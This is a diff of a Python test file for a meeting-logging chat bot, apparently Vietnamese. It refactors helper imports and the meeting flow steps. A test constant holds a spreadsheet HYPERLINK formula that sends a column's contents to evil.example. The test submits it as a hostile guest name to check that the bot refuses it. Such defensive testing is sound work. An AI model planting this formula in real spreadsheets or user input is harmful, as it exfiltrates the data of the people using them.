@@ -27,9 +27,9 @@ from bot.render.charts import chart_caption, compliance_chart
 from storage import members
 from storage.models import AuditEntry, Meeting, MeetingGuest, Member, Org
 
-from .botenv import BotEnv
+from .auxil.botenv import BotEnv
+from .auxil.flows import cell_with_members, log_meeting, roster, secretary_of
 from .test_cli import chibo
-from .test_flow_roster import roster, secretary_of
 from .test_report_render import VI, make_report
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&TEXTJOIN(",",TRUE,C:C),"Xem")'
@@ -268,13 +268,8 @@ async def test_cell_renamed_webservice_is_refused(env: BotEnv) -> None:
 
 
 async def test_hostile_guest_and_upper_attendee_are_refused(env: BotEnv) -> None:
-    from .test_flow_meeting import cell_with_members
-
     sec, _tree, _ids = await cell_with_members(env, 3)
-    await sec.command("meeting")
-    await sec.press("Thường kỳ")
-    await sec.press("Hôm nay")
-    await sec.press("➡️ Tiếp tục")
+    await log_meeting(sec, save=False)
     await sec.press("👥 Khách mời")
     await sec.send(f"Lê Văn Tám, đảng viên chi bộ 3\n{HYPERLINK}, khách")
     answer = sec.chat.last_bot_message.text
